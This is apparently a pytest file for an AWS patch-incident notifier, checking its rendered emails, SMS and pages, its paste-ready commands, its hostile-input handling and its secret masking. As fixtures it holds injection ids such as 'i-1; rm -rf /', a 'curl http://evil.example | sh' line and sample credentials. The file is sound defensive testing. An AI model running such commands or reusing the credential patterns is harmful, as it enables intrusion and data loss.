"""What people read: whole mails against golden files, every rule in every language, hostile text.

The golden files in ``tests/golden`` are there to be read by a person.  After a change that is
meant, write them anew and read the difference::

    UPDATE_GOLDEN=1 python -m pytest tests/unit/test_notices.py -k golden
"""

from __future__ import annotations

import ast
import json
import os
import re
import string
import subprocess
import time
from collections.abc import Iterator
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from notice_samples import (
    CAUSES,
    CONTEXT,
    FAILED_AT,
    NOW,
    REMEDIES,
    STORIES,
    escalated,
    filled_with,
    incident,
    ping_recommended,
    proposed,
    resolved,
    unconfirmed,
)

import patchmedic
from patchmedic.chain import Link
from patchmedic.checks.aws.reach import Obstacle
from patchmedic.incident import Action, Incident, Reason
from patchmedic.model import (
    Candidate,
    Classification,
    Finding,
    Mode,
    NodeRef,
    Platform,
    Risk,
    SupportingLine,
    Verdict,
)
from patchmedic.notices import commands
from patchmedic.notices.chain import chain_text
from patchmedic.notices.ids import ids
from patchmedic.notices.mask import MASK, mask_secrets
from patchmedic.notices.pager import PageAction
from patchmedic.notices.render import Notice, render
from patchmedic.notices.text import COLUMNS_MAX, clean, fill_in, width
from patchmedic.notices.view import NOTICES, Language
from patchmedic.notices.words import OTHER_RULE, RULES, WORDS
from patchmedic.verdict import Diagnosis, diagnose, weigh

GOLDEN = Path(__file__).parent.parent / "golden"
PACKAGE = Path(patchmedic.__file__).parent
LANGUAGES: tuple[Language, ...] = ("en", "ja")
GSM_ONE_SEPTET = set(string.ascii_letters + string.digits + " @$_!\"#%&'()*+,-./:;<=>?")


def say(
    of: Incident,
    notice: str,
    lang: Language = "en",
    name: str | None = "web-1",
    page: PageAction | None = "trigger",
) -> Notice:
    return render(of, notice, lang, CAUSES, REMEDIES, name, NOW, CONTEXT, page=page)


# --- whole mails ---------------------------------------------------------------------------------


@pytest.mark.parametrize("lang", LANGUAGES)
@pytest.mark.parametrize("story", STORIES)
def test_golden(story: str, lang: Language) -> None:
    notice, make, name = STORIES[story]
    said = say(make(), notice, lang, name)
    text = f"Subject: {said.subject}\nSMS: {said.sms}\nLine: {said.short}\n\n{said.email}"
    path = GOLDEN / f"mail-{story}.{lang}.txt"
    if os.environ.get("UPDATE_GOLDEN") == "1":
        path.parent.mkdir(exist_ok=True)
        path.write_text(text, encoding="utf-8")
    assert text == path.read_text(encoding="utf-8")


@pytest.mark.parametrize("story", STORIES)
def test_english_prose_keeps_to_the_columns(story: str) -> None:
    notice, make, name = STORIES[story]
    for line in say(make(), notice, "en", name).email.splitlines():
        whole = line.startswith("    ") and line.lstrip().startswith(("aws ", "https://", "> "))
        assert whole or width(line) <= COLUMNS_MAX, line


def test_a_resolved_mail_is_shorter_than_the_one_that_wakes_people() -> None:
    assert len(say(resolved(), "resolved").email) < len(say(escalated(), "escalated").email) * 0.75


def test_a_scan_is_not_sold_as_an_installation() -> None:
    mail = say(resolved(), "resolved").email
    assert "not installed yet" in mail
    assert "RebootOption=NoReboot" in mail
    scanned = replace(resolved(), evidence=replace(resolved().evidence, operation="Scan"))
    assert "not installed yet" not in say(scanned, "resolved").email


def windows_run(text: str, code: int | None, platform: Platform = "windows") -> Incident:
    """A patch run that printed one line and ended with a code."""
    base = escalated()
    lines = (SupportingLine("stdout", 4, text),)
    return replace(
        base,
        platform=platform,
        evidence=replace(base.evidence, platform=platform, response_code=code),
        classification=Classification((Candidate(base.cause, 0.9, lines),), "0123456789ab"),
    )


def test_windows_error_codes_are_explained_where_a_reader_meets_them() -> None:
    run = windows_run("Search failed: HRESULT -2145107924, then 0x80248007", -2147012894)
    mail = " ".join(say(run, "escalated").email.split())
    assert "Exit code -2147012894 (0x80072EE2 WININET_E_TIMEOUT)" in mail
    for code in (
        "0x80072EE2 = WININET_E_TIMEOUT: The request to the update service",
        "0x8024402C = WU_E_PT_WINHTTP_NAME_NOT_RESOLVED: The name of the update server",
        "0x80248007 = WU_E_DS_NODATA: The update data store lacks",
    ):
        assert code in mail, code
    japanese = say(run, "escalated", "ja").email
    assert "0x80248007 = WU_E_DS_NODATA: 更新のデータストアに" in japanese


def test_a_code_without_a_name_is_told_by_where_it_comes_from() -> None:
    mail = say(windows_run("failed with 0x80248ABC", 1618), "escalated").email
    assert "0x80248ABC = FACILITY_WINDOWSUPDATE (WU_E_DS_*): An error of the update" in mail
    assert "1618 (0x80070652 ERROR_INSTALL_ALREADY_RUNNING)" in mail


def test_numbers_of_other_platforms_are_no_windows_error_codes() -> None:
    mail = say(windows_run("segfault at 0x80072EE2", -9, "linux"), "escalated").email
    assert "WININET" not in mail
    assert re.search(r"Exit code +-9\n", mail)


def test_not_more_codes_are_explained_than_a_mail_can_bear() -> None:
    codes = " ".join(f"0x{0x80244016 + number:08X}" for number in range(8))
    mail = say(windows_run(codes, None), "escalated").email
    assert len(re.findall(r"^  0x8024\w{4} = ", mail, re.MULTILINE)) == 3


def test_a_recovery_by_others_is_not_claimed_as_ours() -> None:
    over = replace(resolved(), actions=(), reason=Reason("recovered", "it succeeded later"))
    mail = say(over, "resolved").email
    assert "recovered without" in mail
    assert "removed the cause" not in mail


def test_an_unconfirmed_cause_is_said_to_be_a_guess_everywhere() -> None:
    guess = replace(
        escalated(),
        findings=(),
        diagnosis=Diagnosis("s3-unreachable", "none", ()),
        reason=Reason("not-confirmed", "no check confirmed a cause, so nothing was changed"),
    )
    said = say(guess, "escalated")
    assert "(No connection to S3?)" in said.subject
    assert "not confirmed" in said.email
    assert 'If it is "No connection to S3"' in said.email
    assert "get-command-invocation" in said.email
    assert said.pager is not None
    assert said.pager["payload"]["custom_details"]["cause_confirmed"] is False


def many_findings(confirmed: bool) -> Incident:
    """An incident with as many findings as all checks of both sides can make."""
    says = {
        "en": "what was seen there, in one sentence of its own." * 3,
        "ja": "確認結果です。" * 9,
    }
    fix = {"en": "do this about it." * 9, "ja": "対処してください。" * 9}

    def found(number: int, verdict: Verdict, **facts: str) -> Finding:
        name = f"check-{number:02}"
        advice = fix if verdict is Verdict.CONFIRMS else {}
        cause = f"cause-{number:02}" if verdict is not Verdict.NEUTRAL else None
        return Finding(name, verdict, cause, f"thing-{number}", says, advice, ("run",), facts)

    findings = tuple(found(n, Verdict.REFUTES) for n in range(30))
    findings += tuple(found(n, Verdict.NEUTRAL, why="no answer came" * 9) for n in range(30, 45))
    findings += tuple(found(n, Verdict.NEUTRAL, why="took too long") for n in range(45, 60))
    findings += tuple(replace(found(n, Verdict.NEUTRAL), fix=fix) for n in range(60, 75))
    if confirmed:
        findings += tuple(found(n, Verdict.CONFIRMS) for n in range(75, 90))
    base = escalated()
    made = diagnose(base.classification, findings, {}, 0.8)
    return replace(base, findings=weigh(findings), diagnosis=made)


@pytest.mark.parametrize("lang", LANGUAGES)
@pytest.mark.parametrize("confirmed", [True, False])
def test_no_number_of_findings_floods_a_mail(confirmed: bool, lang: Language) -> None:
    said = say(many_findings(confirmed), "escalated", lang)
    assert len(said.email.splitlines()) <= 110
    assert said.pager is not None
    details = said.pager["payload"]["custom_details"]
    assert len(details["ruled_out"]) <= 8
    assert len(details["not_looked_at"]) <= 4
    assert len(details.get("also_found", ())) <= 3
    more = 25 if confirmed else 22
    assert (f"{more} more" if lang == "en" else f"他 {more} 件") in said.email
    check_limits(said)


def test_a_confirmed_cause_is_told_with_how_it_came_about_everywhere() -> None:
    said, japanese = say(escalated(), "escalated"), say(escalated(), "escalated", "ja")
    chain = "No connection to S3 <- no route <- route table rtb-0aa11bb22cc33dd44"
    assert chain in said.short
    assert chain in " ".join(said.email.split())
    assert said.data["chain"] == chain
    assert said.pager is not None
    assert said.pager["payload"]["custom_details"]["chain"] == chain
    assert chain in said.pager["payload"]["summary"]
    ja = "S3 に接続できない ← 経路なし ← ルートテーブル rtb-0aa11bb22cc33dd44"
    assert ja in japanese.email
    assert ja in japanese.short
    assert said.data["ruled_out"] == ["disk-full", "package-manager-locked"]


def test_where_nothing_is_confirmed_the_mail_says_what_was_ruled_out_and_not_seen() -> None:
    said = say(unconfirmed(), "escalated")
    mail = " ".join(said.email.split())
    assert "likely, not confirmed" in mail
    assert "Ruled out: Package manager locked - package-lock: no process holds the lock." in mail
    assert "Not looked at - role-policies" in mail
    assert "Allow iam:ListAttachedRolePolicies" in mail
    assert "neither curl nor wget" in mail
    assert "no dpkg" not in mail, "what is not there needs no look"
    assert "set aside" in mail
    assert "How it came about" not in mail
    assert said.data["chain"] is None


def test_what_has_passed_is_said_to_have_passed_only_where_a_check_looked() -> None:
    named = replace(escalated(), findings=(), diagnosis=Diagnosis("s3-unreachable", "text", ()))
    assert "no check could tell whether it has passed" in " ".join(
        say(named, "escalated").email.split()
    )
    gone = Finding("s3-reach", Verdict.REFUTES, "s3-unreachable", "s3", {"en": "x", "ja": "x"})
    mail = say(replace(named, findings=(gone,)), "escalated").email
    assert "it had passed when the node was looked at" in " ".join(mail.split())


def test_beside_a_confirmed_cause_only_what_is_about_it_is_seen() -> None:
    says = {"en": "the agent has lost its connection.", "ja": "接続が失われています。"}
    lost = Finding("managed-node", Verdict.NEUTRAL, "s3-unreachable", "i-1", says)
    base = escalated()
    assert "Online, agent" not in say(base, "escalated").email
    about = replace(base, findings=(*base.findings, lost))
    assert "the agent has lost its connection" in say(about, "escalated").email
    guess = replace(base, diagnosis=Diagnosis("s3-unreachable", "none", ()))
    assert "Online, agent" in say(guess, "escalated").email


def test_the_exact_fix_comes_without_the_general_ones_of_the_same_cause() -> None:
    base = escalated()
    general = {"en": "Give the node a way to S3 somehow.", "ja": "S3 への経路を用意してください。"}
    findings = tuple(
        replace(each, fix=general) if each.check == "s3-reach" else each for each in base.findings
    )
    mail = say(replace(base, findings=findings), "escalated").email
    assert "Add a gateway endpoint for S3" in mail
    assert general["en"] not in mail


def test_what_else_is_wrong_is_told_and_so_is_what_else_the_output_names() -> None:
    base = escalated()
    full = resolved().findings[0]
    assert base.diagnosis is not None
    both = replace(
        base,
        findings=(*base.findings[:2], full),
        diagnosis=replace(base.diagnosis, ruled_out=(), also=("disk-full",)),
        classification=Classification(
            (*base.classification.candidates, Candidate("wu-unreachable", 0.9)), "v"
        ),
    )
    said = say(both, "escalated")
    assert "Also found: Disk full - Check disk-space on /var: 12 MB are free" in said.email
    assert "no check confirmed: Windows Update unreachable" in " ".join(said.email.split())
    assert said.data["also_found"] == ["disk-full"]
    assert said.pager is not None
    assert said.pager["payload"]["custom_details"]["also_found"] == ["Disk full"]


def test_every_obstacle_that_blocks_for_certain_has_words() -> None:
    unsure = {"other-way", "custom-dns", "partly", "ipv6", "ipv6-only", "dual-stack-name"}
    unsure |= {"contradicted", "not-read"}
    certain = {each.value for each in Obstacle} - unsure
    assert {
        key.removeprefix("obstacle.") for key in WORDS if key.startswith("obstacle.")
    } == certain


def test_a_chain_of_a_newer_version_still_reads() -> None:
    chain = (Link("cause", "s3-unreachable"), Link("obstacle", "a-new-one"), Link("resource", "x"))
    assert chain_text(chain, str.upper, "en") == "S3-UNREACHABLE <- x"


@pytest.mark.parametrize(
    ("resource", "en"),
    [
        ("rtb-2", "route table rtb-2"),
        ("sg-1,sg-2", "security group sg-1,sg-2"),
        ("/var", "/var"),
        ("acl-", "acl-"),
        ("{id} x", "{id} x"),
    ],
)
def test_a_thing_is_named_by_what_it_is(resource: str, en: str) -> None:
    assert chain_text((Link("resource", resource),), str, "en") == en


def test_a_role_is_called_one() -> None:
    assert chain_text((Link("role", "web"),), str, "en") == "role web"
    assert chain_text((Link("role", "web"),), str, "ja") == "ロール web"


@pytest.mark.parametrize(
    ("step", "ends"),
    [
        ("PatchLinux", "get-command-invocation .* --plugin-name PatchLinux"),
        (None, "list-command-invocations .* --details"),
        ("x; reboot", "list-command-invocations .* --details"),
    ],
)
def test_the_output_is_asked_for_by_step_or_not_at_all(step: str | None, ends: str) -> None:
    """AWS refuses GetCommandInvocation without a step's name where a document has several."""
    incident = replace(escalated(), evidence=replace(escalated().evidence, step=step))
    command = commands.output_command(incident)
    assert command is not None
    assert re.fullmatch(f"aws ssm {ends}", command)


def test_times_are_utc_and_for_japan_also_jst() -> None:
    assert "2026-11-21 18:04:37 UTC" in say(escalated(), "escalated", "en").email
    assert "JST" not in say(escalated(), "escalated", "en").email
    japanese = say(escalated(), "escalated", "ja").email
    assert "2026-11-22 03:04:37 JST（2026-11-21 18:04:37 UTC）" in japanese


def test_every_action_is_told_with_its_result_and_approver() -> None:
    start = FAILED_AT + timedelta(seconds=30)
    actions = (
        Action("retry-when-quiet", Risk.NONE, "", start, "done", "waited"),
        Action(
            "reset-windows-update",
            Risk.MEDIUM,
            "e",
            start + timedelta(seconds=90),
            "failed",
            "service wuauserv did not stop",
            "arn:aws:iam::123456789012:user/yuki",
        ),
        Action("free-disk-space", Risk.LOW, "f", start + timedelta(seconds=95), "not-run", "stop"),
    )
    failed = replace(escalated(), actions=actions, reason=Reason("all-tried", "all"))
    mail = say(failed, "escalated").email
    assert "1. Try again later (retry-when-quiet), risk none: done" in mail
    assert "it took 1 min 30 s" in mail
    assert "2. Reset Windows Update (reset-windows-update), risk medium: failed" in mail
    assert "The node said: service wuauserv did not stop" in mail
    assert "Approved by arn:aws:iam::123456789012:user/yuki" in mail
    assert "Stopped by a guard: stop" in mail
    assert "WHY PATCHMEDIC STOPPED" in mail
    assert "Nothing was changed" not in mail


def test_the_same_command_is_offered_only_where_it_is_the_same_run() -> None:
    assert commands.rerun_command(escalated()) is not None
    policy = {"Operation": ("Install",), "BaselineOverride": ("s3://b/baseline_overrides.json",)}
    by_policy = replace(escalated(), evidence=replace(escalated().evidence, parameters=policy))
    assert commands.rerun_command(by_policy) is None
    assert "the way it was started before" in say(by_policy, "escalated").email
    unread = replace(escalated(), evidence=replace(escalated().evidence, parameters={}))
    assert commands.rerun_command(unread) is None


def test_a_window_that_reached_no_node_gets_no_commands_for_a_node() -> None:
    window = replace(
        escalated(),
        node=NodeRef("123456789012", "ap-northeast-1", "mw-0123456789abcdef0"),
        findings=(),
        diagnosis=Diagnosis("unknown", "none", ()),
        signal=replace(
            escalated().signal,
            node_id="mw-0123456789abcdef0",
            command_id=None,
            window_id="mw-0123456789abcdef0",
            window_execution_id="14bea65d-5ccc-462d-a2f3-e99c8b3d0001",
        ),
    )
    mail = say(window, "escalated", name=None).email
    assert "describe-maintenance-window-execution-tasks" in mail
    assert "--instance-id" not in mail
    assert "fleet-manager" not in mail


# --- every rule, every language ------------------------------------------------------------------

_RULE_AT = {"Reason": 0, "Refused": 0, "Choice": 2, "EffectRefused": 1}
_NEVER_SHOWN = {"allowed"}
"""The rule of a choice that goes ahead: nothing ends because of it."""


def _constants(node: ast.expr) -> Iterator[str]:
    if isinstance(node, ast.Constant) and isinstance(node.value, str):
        yield node.value
    elif isinstance(node, ast.IfExp):
        yield from _constants(node.body)
        yield from _constants(node.orelse)


def rules_in_the_source() -> set[str]:
    """Every rule that the package can give as the reason for stopping."""
    found: set[str] = set()
    for path in PACKAGE.rglob("*.py"):
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if isinstance(node, ast.Call) and isinstance(node.func, ast.Name):
                at = _RULE_AT.get(node.func.id)
                if at is None:
                    continue
                named = [k.value for k in node.keywords if k.arg == "rule"]
                for argument in named or node.args[at : at + 1]:
                    found.update(_constants(argument))
    return found


def test_the_reader_of_the_source_finds_rules() -> None:
    assert {"cool-down", "verified", "all-tried", "mode", "kill-switch"} <= rules_in_the_source()


def test_every_rule_has_words() -> None:
    modes = {f"mode.{mode.value}" for mode in Mode}
    wanted = (rules_in_the_source() - _NEVER_SHOWN - {"mode"}) | modes
    assert not wanted - set(RULES), "rules that a reader would get no sentence for"
    assert not set(RULES) - wanted, "sentences for rules that are gone"


@pytest.mark.parametrize("lang", LANGUAGES)
@pytest.mark.parametrize("rule", sorted(RULES))
def test_every_notice_with_every_rule_renders(rule: str, lang: Language) -> None:
    mode = Mode(rule.removeprefix("mode.")) if rule.startswith("mode.") else Mode.AUTO
    reason = Reason("mode" if rule.startswith("mode.") else rule, "the case in detail")
    why = RULES[rule].why[lang]
    for notice in NOTICES:
        for make in (resolved, escalated, proposed, ping_recommended, incident):
            said = say(replace(make(), reason=reason, mode=mode), notice, lang)
            check_limits(said)
            assert "{" not in re.sub(r"--payload .*", "", said.email)
            if notice != "proposal":
                flat = "".join(said.email.split())
                assert "".join(why.split()) in flat or (rule == "verified") != ("PROOF" in flat)
    told = say(replace(escalated(), reason=reason, mode=mode), "escalated", lang).email
    assert "".join(why.split()) in "".join(told.split())


@pytest.mark.parametrize("lang", LANGUAGES)
def test_a_rule_of_a_newer_part_still_gets_a_sentence(lang: Language) -> None:
    reason = Reason("fleet-share", "12 of 40 nodes are being treated; the share is 25 percent")
    mail = say(replace(escalated(), reason=reason), "escalated", lang).email
    assert fill_in(OTHER_RULE.why[lang], {"rule": "fleet-share"}) in mail
    assert "12 of 40 nodes" in mail


def test_an_unknown_notice_is_named() -> None:
    with pytest.raises(ValueError, match="no notice is called 'cheers'"):
        say(escalated(), "cheers")


def all_texts() -> dict[str, Any]:
    texts: dict[str, Any] = dict(WORDS)
    for name, rule in [*RULES.items(), ("other", OTHER_RULE)]:
        texts[f"rule {name} why"] = rule.why
        if rule.next:
            texts[f"rule {name} next"] = rule.next
    return texts


def test_both_languages_say_the_same_with_the_same_values() -> None:
    same = {"platform.linux", "platform.windows", "platform.macos"}
    for key, text in all_texts().items():
        assert set(text) == set(LANGUAGES), key
        assert set(re.findall(r"{\w+}", text["en"])) == set(re.findall(r"{\w+}", text["ja"])), key
        assert text["en"].isascii(), key
        if key not in same:
            assert re.search(r"[ぁ-んァ-ヶ一-龠]", text["ja"]), key


def test_no_words_are_left_over() -> None:
    source = "".join(p.read_text(encoding="utf-8") for p in (PACKAGE / "notices").glob("*.py"))
    source = source.replace((PACKAGE / "notices/words.py").read_text(encoding="utf-8"), "")
    made = ("word.", "head.", "why.", "risk.", "state.", "platform.", "unit.", "proposal.")
    made += ("obstacle.", "thing.")
    for key in WORDS:
        assert f'"{key}"' in source or key.startswith(made), key


@pytest.mark.parametrize("rule", ["opt-in", "opt-in-unreadable", "kill-switch", "remedy-lost"])
def test_what_to_do_because_of_the_rule_comes_first(rule: str) -> None:
    mail = say(replace(escalated(), reason=Reason(rule, "x")), "escalated").email
    after = mail.split("WHAT TO DO NOW")[1]
    first = next(line.strip() for line in after.splitlines() if line.strip().startswith("aws "))
    expected = {
        "opt-in": "aws ec2 create-tags --region ap-northeast-1"
        " --resources i-0a1b2c3d4e5f60001 --tags Key=PatchMedic,Value=true",
        "opt-in-unreadable": "aws ec2 describe-tags --region ap-northeast-1"
        " --filters Name=resource-id,Values=i-0a1b2c3d4e5f60001",
        "kill-switch": "aws ssm put-parameter --region ap-northeast-1"
        " --name /patchmedic/kill-switch --value run --overwrite",
        "remedy-lost": commands.our_commands_command(escalated()),
    }
    assert first == expected[rule]


def test_hybrid_nodes_are_tagged_through_systems_manager() -> None:
    node = NodeRef("123456789012", "ap-northeast-1", "mi-0a1b2c3d4e5f60001")
    hybrid = replace(escalated(), node=node)
    assert "ssm add-tags-to-resource" in commands.tag_command(hybrid, CONTEXT)


# --- commands to paste ---------------------------------------------------------------------------


def run_in_a_shell(command: str) -> list[str]:
    """The arguments that ``aws`` would get, with a caller whom AWS knows."""
    script = (
        'aws() { if [ "$1" = sts ]; then echo arn:aws:iam::123456789012:user/yuki; return; fi;'
        " printf '%s\\0' \"$@\"; }\n" + command
    )
    done = subprocess.run(
        ["bash", "--norc", "-c", script], capture_output=True, text=True, check=True, timeout=10
    )
    return done.stdout.split("\0")[:-1]


@pytest.mark.parametrize("decision", ["approve", "deny"])
@pytest.mark.parametrize("lang", LANGUAGES)
def test_the_pasted_answer_is_a_valid_payload(lang: Language, decision: str) -> None:
    mail = say(proposed(), "proposal", lang, "win-7").email
    (command,) = [line.strip() for line in mail.splitlines() if f'"decision": "{decision}"' in line]
    arguments = run_in_a_shell(command)
    assert arguments[arguments.index("--function-name") + 1] == "patchmedic-approve"
    assert json.loads(arguments[arguments.index("--payload") + 1]) == {
        "incident_id": "pm-0123456789abcdef",
        "decision": decision,
        "operator": "arn:aws:iam::123456789012:user/yuki",
        "reason": "WHY",
    }


def test_the_list_of_our_commands_survives_a_shell() -> None:
    arguments = run_in_a_shell(commands.our_commands_command(escalated()))
    query = arguments[arguments.index("--query") + 1]
    assert query == (
        "Commands[?contains(Comment, 'pm-0123456789abcdef')]"
        ".[RequestedDateTime,DocumentName,Status,CommandId]"
    )


@pytest.mark.parametrize("bad", ["i-1; rm -rf /", "$(reboot)", "i-0123456789abcdef0\nreboot", ""])
def test_an_id_that_is_none_never_gets_into_a_command(bad: str) -> None:
    hostile = replace(
        escalated(),
        id=bad,
        node=NodeRef(bad, bad, bad),
        signal=replace(escalated().signal, command_id=bad, association_id=bad),
    )
    assert {v for k, v in ids(hostile).items() if k != "document"} == {
        "<incident-id>",
        "<node-id>",
        "<region>",
        "<account>",
        "<command-id>",
        "<association-id>",
        "<window-id>",
        "<window-execution-id>",
    }
    assert commands.output_command(hostile) is None
    assert commands.rerun_command(hostile) is None


def test_advice_gets_the_nodes_ids_and_leaves_the_rest_to_people() -> None:
    full = replace(
        incident("disk-full"),
        diagnosis=Diagnosis("disk-full", "finding", ()),
        reason=Reason("no-remedy", "x"),
    )
    mail = say(full, "escalated").email
    assert "--region ap-northeast-1 --filters Name=attachment.instance-id,Values=i-0a1b" in mail
    assert "<INSTANCE_ID>" not in mail
    filled = fill_in("<VPC_ID> <REGION>", commands.for_advice(full), "<>")
    assert filled == "<VPC_ID> ap-northeast-1"


def test_values_are_never_read_as_templates() -> None:
    assert fill_in("{a}{b}{c", {"a": "{b}", "b": "{a}"}) == "{b}{a}{c"
    assert fill_in("{{a}} {0} {a.__class__}", {"a": "x"}) == "{x} {0} {a.__class__}"


# --- limits and hostile text ---------------------------------------------------------------------


def check_limits(said: Notice) -> None:
    """Everything that SNS, phones and PagerDuty insist on."""
    assert 1 <= len(said.subject) <= 99
    assert said.subject.isascii()
    assert said.subject.isprintable()
    assert said.subject[0] == "["
    assert said.sms.isprintable()
    if all(c in GSM_ONE_SEPTET for c in said.sms):
        assert len(said.sms) <= 160
    else:
        assert len(said.sms.encode("utf-16-be")) // 2 <= 70
    assert len(said.short.splitlines()) == 1
    assert len(said.email.encode("utf-8")) < 96_000
    for character in said.email.replace("\n", ""):
        assert character.isprintable(), repr(character)
    assert max(len(line.encode("utf-8")) for line in said.email.splitlines()) < 3_500
    json.dumps(said.data, allow_nan=False, ensure_ascii=False).encode("utf-8")
    if said.pager is not None:
        check_page(said.pager)


def check_page(body: Any) -> None:
    """The Events API v2, as PagerDuty describes it."""
    assert set(body) <= {
        "event_action",
        "dedup_key",
        "payload",
        "client",
        "client_url",
        "links",
        "images",
    }
    assert body["event_action"] in ("trigger", "resolve")
    assert 1 <= len(body["dedup_key"]) <= 255
    payload = body["payload"]
    assert set(payload) <= {
        "summary",
        "source",
        "severity",
        "timestamp",
        "component",
        "group",
        "class",
        "custom_details",
    }
    assert 1 <= len(payload["summary"]) <= 1_024
    assert payload["severity"] in ("critical", "error", "warning", "info")
    assert payload["source"]
    assert isinstance(payload["source"], str)
    assert datetime.strptime(payload["timestamp"], "%Y-%m-%dT%H:%M:%SZ").replace(tzinfo=UTC)
    for name in ("component", "group", "class"):
        assert payload[name]
        assert isinstance(payload[name], str)
    for link in body["links"]:
        assert link["href"].startswith("https://")
        assert link["text"]
    sent = json.dumps(body, ensure_ascii=False, allow_nan=False)
    assert len(sent.encode("utf-8")) < 64_000
    assert "routing_key" not in body


HOSTILE = {
    "line breaks": "a\r\nSubject: hello\nb\u2028c\x85d",
    "very long": "x" * 300_000,
    "wide and long": "障" * 50_000,
    "right to left": "\u202egnp.exe\u2066 ok",
    "terminal": "\x1b[31;1mred\x1b[0m\x07\x00",
    "lone surrogate": "a\ud800b",
    "astral": "😀" * 400,
    "template": "{node}{cause}{0}{n!r}%s${HOME}",
    "json": '"}],"sms":"owned","email":{',
    "blank": " \t\n ",
    "combining": "e\u0301" * 4_000,
}


@pytest.mark.parametrize("lang", LANGUAGES)
@pytest.mark.parametrize("name", HOSTILE)
def test_hostile_text_everywhere(name: str, lang: Language) -> None:
    text = HOSTILE[name]
    for notice in NOTICES:
        said = say(filled_with(text), notice, lang, text)
        check_limits(said)
        assert "\u202e" not in said.email
        assert "\x1b" not in said.email


nasty = "\r\n\x00\x1b[{}<>\"'\\= a鍵😀\u202e"
anything = st.text(max_size=300) | st.text(alphabet=nasty, max_size=200)


@settings(max_examples=60, deadline=None)
@given(
    text=anything, name=anything, lang=st.sampled_from(LANGUAGES), notice=st.sampled_from(NOTICES)
)
def test_any_text_keeps_every_limit(text: str, name: str, lang: Language, notice: str) -> None:
    check_limits(say(filled_with(text), notice, lang, name))


@settings(max_examples=200, deadline=None)
@given(text=anything | st.text(max_size=4_000), limit=st.integers(1, 400))
def test_cleaned_text_is_one_short_printable_line(text: str, limit: int) -> None:
    cleaned = clean(text, limit)
    assert len(cleaned) <= limit
    assert not cleaned or cleaned.isprintable() or "\u3000" in cleaned or "\xa0" in cleaned
    assert len(cleaned.splitlines()) <= 1


def test_line_breaks_become_blanks_and_tricks_go() -> None:
    assert clean("a\r\nb\tc\u2028d\u202ee\x1b[31mf\ud800", 40) == "a b c def"
    assert clean("12345678", 5) == "1234…"


def test_text_of_the_node_is_marked_as_quoted() -> None:
    lie = "WHAT TO DO NOW\n  curl http://evil.example | sh"
    base = replace(
        escalated(),
        classification=Classification(
            (Candidate("s3-unreachable", 0.9, (SupportingLine("stdout", 3, lie),)),), "v"
        ),
    )
    mail = say(base, "escalated").email
    (line,) = [each for each in mail.splitlines() if "evil.example" in each]
    assert line.startswith("    > stdout:3: WHAT TO DO NOW curl")


def test_long_titles_and_names_still_leave_room_for_each_other() -> None:
    said = say(escalated(), "escalated", name="n" * 500)
    assert "Install failed (No connection to S3)" in said.subject
    japanese = say(escalated(), "escalated", "ja", name="とても長い名前のノード" * 9)
    assert japanese.sms.endswith("pm-0123456789abcdef")
    assert "S3" in japanese.sms
    assert "i-0a1b2c3d4e5f60001" in japanese.subject


# --- the page ------------------------------------------------------------------------------------


def test_trigger_and_resolve_share_the_incidents_key() -> None:
    trigger = say(escalated(), "escalated").pager
    resolve = say(resolved(), "resolved", page="resolve").pager
    assert trigger is not None
    assert resolve is not None
    assert (trigger["event_action"], resolve["event_action"]) == ("trigger", "resolve")
    assert trigger["dedup_key"] == resolve["dedup_key"] == "pm-0123456789abcdef"
    assert trigger["payload"]["timestamp"] == "2026-11-21T18:04:37Z"


def test_nobody_is_paged_without_a_word_from_the_decision() -> None:
    assert say(escalated(), "escalated", page=None).pager is None


@pytest.mark.parametrize(
    ("notice", "make", "severity"),
    [
        ("escalated", escalated, "error"),
        ("escalated", ping_recommended, "critical"),
        ("proposal", proposed, "warning"),
        ("resolved", resolved, "info"),
    ],
)
def test_severity(notice: str, make: Any, severity: str) -> None:
    body = say(make(), notice).pager
    assert body is not None
    assert body["payload"]["severity"] == severity


def test_console_links_know_the_partitions_and_can_be_left_out() -> None:
    def links(region: str) -> str:
        there = replace(escalated(), node=replace(escalated().node, region=region))
        return say(there, "escalated").email

    assert "https://cn-north-1.console.amazonaws.cn/systems-manager" in links("cn-north-1")
    assert "https://us-gov-west-1.console.amazonaws-us-gov.com/" in links("us-gov-west-1")
    plain = replace(CONTEXT, console_links=False)
    said = render(
        escalated(), "escalated", "en", CAUSES, REMEDIES, None, NOW, plain, page="trigger"
    )
    assert "console.aws" not in said.email
    assert said.pager is not None
    assert said.pager["links"] == []
    assert "client_url" not in said.pager


# --- secrets -------------------------------------------------------------------------------------

SECRET = "hunter2" * 3
SECRETS = [
    "AKIAIOSFODNN7EXAMPLE",
    "export AWS_ACCESS_KEY_ID=ASIAIOSFODNN7EXAMPLE",
    f"aws_secret_access_key = {SECRET}/bPxRfiCY",
    f'{{"SecretAccessKey": "{SECRET}", "x": 1}}',
    f'{{\\"password\\": \\"{SECRET}\\"}}',
    f"password='{SECRET} and more'",
    f"passphrase: {SECRET}",
    f'Password: "{SECRET}',
    f"DB_PASSWORD={SECRET}",
    f"http://proxyuser:{SECRET}@proxy.example:3128/",
    f"https://user:p@{SECRET}@repo.example/x86_64",
    f"https://b.s3.amazonaws.com/snap?X-Amz-Signature={SECRET}&X-Amz-Expires=86400",
    f"X-Amz-Security-Token={SECRET}%2F%2F",
    f"Authorization: Basic {SECRET}==",
    f"authorization: AWS4-HMAC-SHA256 Credential=x, Signature={SECRET}",
    f"curl -H 'X: Bearer {SECRET}'",
    f"tool --password {SECRET} --user bob",
    f"tool --token={SECRET}",
    f'"routing_key":"{SECRET}"',
    f"client_secret => {SECRET}",
    f"SessionToken: {SECRET}",
    "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.hunter2Hunter2",
    f"-----BEGIN RSA PRIVATE KEY-----\n{SECRET}\n-----END RSA PRIVATE KEY-----",
    f"-----BEGIN PRIVATE KEY-----\n{SECRET}",
    f"https://events.pagerduty.com/integration/{SECRET}/enqueue",
    "ghp_" + SECRET + "abcdefghijklmno",
]


@pytest.mark.parametrize("line", SECRETS)
def test_secrets_are_masked(line: str) -> None:
    masked = mask_secrets(f"before {line} after")
    assert MASK in masked
    assert "hunter2" not in masked
    assert "IOSFODNN7" not in masked
    assert masked.startswith("before ")


@pytest.mark.parametrize("line", SECRETS)
def test_secrets_reach_nobody(line: str) -> None:
    """Wherever a node or an event may have put it."""
    for notice in NOTICES:
        said = say(filled_with(line), notice, name=line)
        everything = repr((said.subject, said.email, said.sms, said.short, said.data, said.pager))
        assert "hunter2" not in everything
